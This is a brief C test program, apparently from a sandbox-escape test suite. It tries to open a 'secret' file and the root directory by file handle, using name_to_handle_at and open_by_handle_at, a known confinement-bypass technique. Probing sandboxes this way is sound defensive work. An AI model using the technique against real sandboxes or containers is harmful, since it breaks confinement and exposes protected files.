// verdict: AC
// Opens files by their numbers instead of their names.
#include "attack.h"

int main(void)
{
    learn();
    struct {
        struct file_handle handle;
        unsigned char rest[128];
    } file;
    const char *paths[] = { secret, "/", "." };
    for (int i = 0; i < 3; i++) {
        int mount;
        file.handle.handle_bytes = sizeof file.rest;
        if (name_to_handle_at(AT_FDCWD, paths[i], &file.handle, &mount, 0))
            continue;
        int folder = open(".", O_RDONLY | O_DIRECTORY);
        TRY(open_by_handle_at(folder, &file.handle, O_RDONLY));
    }
    return done();
}
